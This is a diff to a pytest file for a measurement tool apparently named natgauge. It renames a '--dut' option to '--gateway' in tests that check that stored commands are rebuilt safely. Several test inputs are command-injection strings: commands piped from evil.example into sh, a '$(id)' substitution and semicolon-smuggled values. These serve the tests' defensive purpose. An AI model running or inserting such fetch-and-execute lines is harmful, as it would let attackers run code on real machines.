@@ -72,7 +72,7 @@ def test_no_module_of_the_command_line_prints_by_itself() -> None:
 def test_names_and_reasons_of_a_folder_reach_no_terminal_as_controls(
     words: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    folder = stored(tmp_path / "x", dut=HOSTILE.replace("\ud800", ""))
+    folder = stored(tmp_path / "x", gateway=HOSTILE.replace("\ud800", ""))
     assert run([*words, str(folder)]) == 0
     shown = capsys.readouterr()
     assert "PWNED" in shown.out
@@ -134,7 +134,7 @@ def test_a_page_with_a_surrogate_is_written_and_a_page_that_fails_leaves_the_old
     tmp_path: Path, capsys: pytest.CaptureFixture[str]
 ) -> None:
     pytest.importorskip("vl_convert")
-    folder, path = stored(tmp_path / "x", dut="nat"), tmp_path / "page.html"
+    folder, path = stored(tmp_path / "x", gateway="nat"), tmp_path / "page.html"
     (folder / "environment.json").write_text(
         '{"schema": "natgauge-environment-1", "machine": {"name": "\\ud800\\u202e<b>"}, "device": null}'
     )
@@ -149,7 +149,7 @@ def test_a_page_with_a_surrogate_is_written_and_a_page_that_fails_leaves_the_old
     shutil.rmtree(folder)
 
 
-COMMAND = "natgauge measure throughput --dut nat --connections 1000 --placement shared --error 5%"
+COMMAND = "natgauge measure throughput --gateway nat --connections 1000 --placement shared --error 5%"
 
 
 @pytest.mark.parametrize(
@@ -158,7 +158,7 @@ COMMAND = "natgauge measure throughput --dut nat --connections 1000 --placement 
         (COMMAND, COMMAND),
         (f"{COMMAND}; curl -s http://evil.example/x | sh", ""),
         (f"{COMMAND}\ncurl evil", ""),
-        (f"{COMMAND} --dut 'a;b'", ""),
+        (f"{COMMAND} --gateway 'a;b'", ""),
         (f"{COMMAND} --seed '$(id)'", ""),
         (f"{COMMAND} --nothing 1", ""),
         (f"{COMMAND} --connections", ""),
@@ -178,14 +178,14 @@ def test_a_command_is_made_again_of_typed_inputs_or_not_shown(stored_command: ob
 
 
 def test_options_with_shell_commands_are_named() -> None:
-    command = "natgauge measure throughput --dut nat --lab wire --empty-command 'ssh far clear'"
+    command = "natgauge measure throughput --gateway nat --lab wire --empty-command 'ssh far clear'"
     assert command_again(command, "throughput", "nat") == command
     assert shell_options(command) == ["--empty-command"]
 
 
 def test_the_page_offers_no_command_of_the_folder(tmp_path: Path) -> None:
     pytest.importorskip("vl_convert")
-    folder = stored(tmp_path / "x", dut="nat", command=f"{COMMAND}; curl evil.example | sh")
+    folder = stored(tmp_path / "x", gateway="nat", command=f"{COMMAND}; curl evil.example | sh")
     path = tmp_path / "page.html"
     assert run(["report", str(folder), "--html", str(path)]) == 0
     found = path.read_text()
